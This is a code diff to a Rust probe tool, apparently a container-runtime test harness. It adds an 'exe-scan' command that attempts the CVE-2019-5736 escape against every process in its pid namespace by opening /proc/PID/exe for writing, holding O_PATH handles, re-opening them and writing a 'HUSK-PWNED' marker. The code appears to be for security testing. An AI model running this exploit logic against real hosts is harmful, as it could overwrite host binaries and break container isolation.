@@ -39,6 +39,9 @@ commands:
   append PATH DATA    try to append, report ok or errno
   exe-attack PATH GO  CVE-2019-5736: open PATH for writing, directly and by
                       re-opening an O_PATH handle once file GO exists (<=20s)
+  exe-scan GO [SECS]   the same against every other process in our pid
+                      namespace (e.g. the init of a container created into
+                      it), held until GO exists or SECS (<=30) pass
   exit N              exit with status N
   sleep SECS          sleep, then exit 0
   run PROBE-CMD...    several commands in sequence, separated by `--`";
@@ -90,6 +93,7 @@ fn dispatch(args: &[String]) -> ExitCode {
         ("write", Some(p)) => try_write(p, arg(2).unwrap_or("probe\n"), false),
         ("append", Some(p)) => try_write(p, arg(2).unwrap_or("probe\n"), true),
         ("exe-attack", Some(p)) => exe_attack(p, arg(2)),
+        ("exe-scan", Some(go)) => exe_scan(go, arg(2).and_then(|s| s.parse().ok()).unwrap_or(20)),
         ("exit", Some(n)) => return ExitCode::from(n.parse::<u8>().unwrap_or(255)),
         ("sleep", Some(s)) => {
             std::thread::sleep(Duration::from_secs_f64(s.parse().unwrap_or(1.0)));
@@ -329,7 +333,7 @@ fn exe_attack(path: &str, go: Option<&str>) -> io::Result<()> {
             kv(key, "opened");
             kv(
                 &format!("{key}.write"),
-                w.map_or_else(|e| errno(&e), |()| "ok".into()),
+                w.map_or_else(|e| format!("errno {}", errno(&e)), |()| "ok".into()),
             );
         }
         Err(e) => kv(key, format!("errno {}", errno(&e))),
@@ -358,6 +362,69 @@ fn exe_attack(path: &str, go: Option<&str>) -> io::Result<()> {
     let _ = io::stdout().flush();
     let fd_path = fd_path_of(&handle)?;
     report("reopen", open_write(&fd_path));
+    Ok(())
+}
+
+fn open_for_append(path: &str) -> io::Result<fs::File> {
+    fs::OpenOptions::new().append(true).open(path)
+}
+
+/// Tries to open `path` for writing and reports `KEY=opened|errno ...`;
+/// a successful open also tries to write a marker (`KEY.write=...`).
+fn report_write_open(key: &str, path: &str) {
+    match open_for_append(path) {
+        Ok(mut f) => {
+            let w = f.write_all(b"HUSK-PWNED");
+            kv(key, "opened");
+            kv(
+                &format!("{key}.write"),
+                w.map_or_else(|e| format!("errno {}", errno(&e)), |()| "ok".into()),
+            );
+        }
+        Err(e) => kv(key, format!("errno {}", errno(&e))),
+    }
+}
+
+/// CVE-2019-5736 from a neighbour: until `go` exists (at most `secs`), every
+/// new process of our pid namespace has its /proc/PID/exe opened for writing
+/// and as an O_PATH handle; once `go` exists, the handles are re-opened for
+/// writing through /proc/self/fd. Reports `scanning`, then per pid
+/// `direct.PID`, `opath.PID` and `reopen.PID` lines.
+fn exe_scan(go: &str, secs: u64) -> io::Result<()> {
+    let me = std::process::id();
+    let mut tried = std::collections::BTreeSet::new();
+    let mut held = Vec::new();
+    kv("scanning", me);
+    let _ = io::stdout().flush();
+    let deadline = Instant::now() + Duration::from_secs(secs.min(30));
+    while !Path::new(go).exists() && Instant::now() < deadline {
+        let pids: Vec<u32> = fs::read_dir("/proc")?
+            .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+            .filter(|p| *p != me && !tried.contains(p))
+            .collect();
+        for pid in pids {
+            tried.insert(pid);
+            let exe = format!("/proc/{pid}/exe");
+            report_write_open(&format!("direct.{pid}"), &exe);
+            match fs::OpenOptions::new()
+                .read(true)
+                .custom_flags(O_PATH)
+                .open(&exe)
+            {
+                Ok(h) => {
+                    kv(&format!("opath.{pid}"), "opened");
+                    held.push((pid, h));
+                }
+                Err(e) => kv(&format!("opath.{pid}"), format!("errno {}", errno(&e))),
+            }
+            let _ = io::stdout().flush();
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    for (pid, handle) in &held {
+        report_write_open(&format!("reopen.{pid}"), &fd_path_of(handle)?);
+    }
+    kv("done", held.len());
     Ok(())
 }
 
